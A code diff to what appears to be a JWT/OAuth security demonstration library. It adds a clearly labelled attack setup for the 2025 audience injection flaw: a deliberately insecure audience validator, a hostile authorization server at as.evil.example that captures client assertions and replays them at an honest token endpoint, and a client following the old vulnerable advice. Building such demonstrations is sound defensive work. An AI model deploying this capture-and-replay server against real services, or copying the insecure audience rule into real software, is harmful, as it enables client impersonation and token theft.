@@ -37,7 +37,8 @@ import os
 import tempfile
 import time
 import tracemalloc
-from collections.abc import Callable, Iterable, Mapping
+from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
+from contextlib import contextmanager
 from dataclasses import dataclass, field
 from functools import cache
 from importlib import resources
@@ -56,9 +57,11 @@ from jwcrypto import jwe, jwk
 from jwcrypto.jwa import JWA
 
 from .access_token import AccessTokenValidator, AuthorizationServer, JwksCache
-from .claims import with_changes
+from .claims import audiences, with_changes
+from .client_assertion import ClientAssertionValidator, assertion_form, sign_client_assertion
 from .clock import DEMO_EPOCH, Clock, DemoIds, FixedClock, IdSource
 from .compact import b64url_decode, b64url_encode, decode_unverified
+from .errors import FetchError, InvalidAudience
 from .id_token import ClientRegistration, IdTokenValidator, OpenIDProvider
 from .jws import encode_claims, encode_header
 from .keys import DemoKey, as_jwk, demo_key, load_jwks, public_jwks
@@ -75,13 +78,17 @@ from .trace import Check, Trace
 
 __all__ = [
     "ATTACKER_HOST",
+    "AUDIENCE_INJECTION_CVES",
+    "EVIL_AS_HOST",
     "INTENDED",
     "NONE_CASINGS",
     "PSYCHIC_DER",
     "PSYCHIC_RAW",
     "TOKEN_KINDS",
     "VALIDATORS",
+    "AssertionClient",
     "AttackerHost",
+    "AudienceInjectionAS",
     "ConfusionMatrix",
     "CrackResult",
     "Measurement",
@@ -90,6 +97,7 @@ __all__ = [
     "NaiveResult",
     "NaiveSqliteKeyStore",
     "NaiveValidator",
+    "OldAudienceRuleValidator",
     "build_confusion_matrix",
     "crack_hmac",
     "decompression_bomb",
@@ -107,6 +115,7 @@ __all__ = [
     "naive_decrypt",
     "naive_ecdsa_p256_verify",
     "naive_pbes2_decrypt",
+    "old_audience_rule",
     "pbes2_p2c_bomb",
     "resign",
     "self_signed_certificate",
@@ -892,3 +901,171 @@ class MixUpOP(OpenIDProvider):
         form = req.form()
         self.stolen.append((form.get("code", ""), form.get("code_verifier", "")))
         return json_response(400, {"error": "invalid_grant", "error_description": "thank you"})
+
+
+# ------------------------------------------------------------------------------------------------
+# Audience injection (2025): an AS that collects a client assertion addressed to another AS
+# ------------------------------------------------------------------------------------------------
+#: The 2025 finding (OpenID Foundation disclosure of 24 January 2025; the University of Stuttgart's
+#: paper "Audience Injection Attacks", 2025) and the CVE numbers assigned to it.
+AUDIENCE_INJECTION_CVES = ("CVE-2025-27370", "CVE-2025-27371")
+#: Mallory's AS (the cast's attacker at evil.example).
+EVIL_AS_HOST = "as.evil.example"
+
+
+class OldAudienceRuleValidator(ClientAssertionValidator):
+    """Deliberately insecure: the audience rule before RFC 10070, as many servers applied it.
+
+    RFC 7523 §3 (3) asked only for "a value that identifies the authorization server as an intended
+    audience" and said "the token endpoint URL of the authorization server MAY be used"; OIDC Core §9
+    says "the Audience SHOULD be the URL of the Authorization Server's Token Endpoint". So an AS
+    accepted any of its identities (``accepted_audiences``: its issuer, its token endpoint URL, ...)
+    anywhere in ``aud``. Every other row is the real validator's. The fix, RFC 10070 §4, is
+    :meth:`ClientAssertionValidator.check_audience` (the guard against CVE-2025-27370 and
+    CVE-2025-27371)."""
+
+    def __init__(self, *, accepted_audiences: Sequence[str], **options: Any) -> None:
+        super().__init__(**options)
+        self.accepted_audiences = tuple(accepted_audiences)
+
+    def check_audience(self, trace: Trace, claims: Mapping[str, Any]) -> None:
+        auds = audiences(claims)
+        ok = auds is not None and any(a in self.accepted_audiences for a in auds)
+        trace.check(
+            "RFC 7523 §3 (3)",
+            f"aud contains one of this AS's identities {list(self.accepted_audiences)} (the rule before RFC 10070)",
+            ok,
+            f"aud = {json.dumps(claims.get('aud'))[:120]}",
+            InvalidAudience,
+        )
+
+
+@contextmanager
+def old_audience_rule(op: OpenIDProvider) -> Iterator[OldAudienceRuleValidator]:
+    """Deliberately insecure: run ``op``'s token endpoint with the audience rule before RFC 10070
+    (its issuer *or* its token endpoint URL accepted), everything else unchanged; restored on exit."""
+    real = op.client_assertion_validator
+    naive = OldAudienceRuleValidator(
+        accepted_audiences=(op.issuer, op.metadata()["token_endpoint"]),
+        issuer=real.issuer,
+        client_keys=real.client_keys,
+        replay_store=real.replay_store,
+        clock=real.clock,
+        algorithms=real.algorithms,
+        leeway=real.leeway,
+        max_lifetime=real.max_lifetime,
+    )
+    op.client_assertion_validator = naive
+    try:
+        yield naive
+    finally:
+        op.client_assertion_validator = real
+
+
+class AudienceInjectionAS:
+    """Deliberately hostile: Mallory's authorization server, over real HTTP (the audience injection
+    attack of 2025; CVE-2025-27370, CVE-2025-27371).
+
+    Its metadata (RFC 8414 §2, served at ``/.well-known/oauth-authorization-server``, RFC 8414 §3)
+    names its own issuer, which a client can check (RFC 8414 §3.3), and, as its ``token_endpoint``,
+    the URL of the *honest* AS's token endpoint, which a client cannot check. Its pushed
+    authorization request endpoint (RFC 9126 §2) asks for client authentication and keeps every
+    ``client_assertion`` it is sent in :attr:`captured`. A client that takes ``aud`` from the
+    ``token_endpoint`` it was given signs, for Mallory, an assertion addressed to the honest AS.
+    """
+
+    def __init__(self, network: Network, *, honest_token_endpoint: str, host: str = EVIL_AS_HOST) -> None:
+        self.network = network
+        self.server = LocalServer(host, network)
+        self.issuer = self.server.url()
+        self.honest_token_endpoint = honest_token_endpoint
+        #: The client assertions sent to this AS, as received.
+        self.captured: list[str] = []
+        self.server.serve_json("/.well-known/oauth-authorization-server", self.metadata)
+        self.server.route("POST", "/par")(self._par)
+
+    def metadata(self) -> dict[str, Any]:
+        return {
+            "issuer": self.issuer,
+            "authorization_endpoint": self.server.url("/authorize"),
+            "token_endpoint": self.honest_token_endpoint,  # the injected audience
+            "pushed_authorization_request_endpoint": self.server.url("/par"),
+            "token_endpoint_auth_methods_supported": ["private_key_jwt"],
+        }
+
+    def _par(self, req: Request) -> Response:
+        form = req.form()
+        if "client_assertion" in form:
+            self.captured.append(form["client_assertion"])
+        return json_response(201, {"request_uri": "urn:ietf:params:oauth:request_uri:mallory", "expires_in": 60})
+
+    def replay(self, assertion: str, *, scope: str = "accounts") -> tuple[int, dict[str, Any]]:
+        """Present ``assertion`` at the honest AS's token endpoint as the client (the client
+        credentials grant, RFC 6749 §4.4): the status and the JSON answer."""
+        form = {"grant_type": "client_credentials", "scope": scope, **assertion_form(assertion)}
+        resp = self.network.post(self.honest_token_endpoint, urlencode(form).encode("ascii"), "application/x-www-form-urlencoded")
+        body = resp.json()
+        return resp.status, body if isinstance(body, dict) else {}
+
+    def start(self) -> AudienceInjectionAS:
+        self.server.start()
+        return self
+
+    def stop(self) -> None:
+        self.server.stop()
+
+
+class AssertionClient:
+    """A client that authenticates with ``private_key_jwt`` at any endpoint of an AS it discovered
+    (RFC 8414 §3; its ``issuer`` checked, RFC 8414 §3.3), here at the pushed authorization request
+    endpoint (RFC 9126 §2).
+
+    ``audience_from`` says where ``aud`` comes from: ``"token_endpoint"`` is the old advice
+    (deliberately insecure: OIDC Core §9 "SHOULD be the URL of the Authorization Server's Token
+    Endpoint", a value the client cannot verify), ``"issuer"`` is RFC 10070 §4 (the issuer identifier it
+    verified). The old-advice client sends no ``typ``, as clients did before RFC 10070; typing alone
+    would not have stopped the attack (RFC 10070 §4: "strong typing alone does not prevent the
+    attacks")."""
+
+    def __init__(
+        self,
+        network: Network,
+        client_id: str,
+        key: DemoKey | jwk.JWK,
+        *,
+        alg: str = "PS256",
+        clock: Clock,
+        ids: IdSource,
+        audience_from: str = "issuer",
+    ) -> None:
+        if audience_from not in ("issuer", "token_endpoint"):
+            raise ValueError("audience_from is 'issuer' (RFC 10070 §4) or 'token_endpoint' (the old advice)")
+        self.network, self.client_id, self.key, self.alg = network, client_id, key, alg
+        self.clock, self.ids, self.audience_from = clock, ids, audience_from
+        #: The assertions this client signed, in order.
+        self.sent: list[str] = []
+
+    def discover(self, issuer: str) -> dict[str, Any]:
+        metadata = self.network.get_json(issuer + "/.well-known/oauth-authorization-server")
+        if not isinstance(metadata, dict) or metadata.get("issuer") != issuer:
+            raise FetchError(f"metadata issuer is not {issuer!r} (RFC 8414 §3.3)")
+        return metadata
+
+    def push_authorization_request(self, issuer: str, **params: str) -> int:
+        """POST a pushed authorization request to the AS ``issuer``, authenticated with a fresh
+        assertion; the status the AS answered."""
+        metadata = self.discover(issuer)
+        audience = metadata["issuer"] if self.audience_from == "issuer" else metadata["token_endpoint"]
+        # A client of the old advice predates RFC 10070's explicit type too: no typ.
+        header = {"typ": None} if self.audience_from == "token_endpoint" else None
+        assertion = sign_client_assertion(
+            self.client_id, self.key, audience=audience, alg=self.alg, clock=self.clock, ids=self.ids, header=header
+        )
+        self.sent.append(assertion)
+        form = {"response_type": "code", "client_id": self.client_id, **params, **assertion_form(assertion)}
+        resp = self.network.post(
+            metadata["pushed_authorization_request_endpoint"],
+            urlencode(form).encode("ascii"),
+            "application/x-www-form-urlencoded",
+        )
+        return resp.status
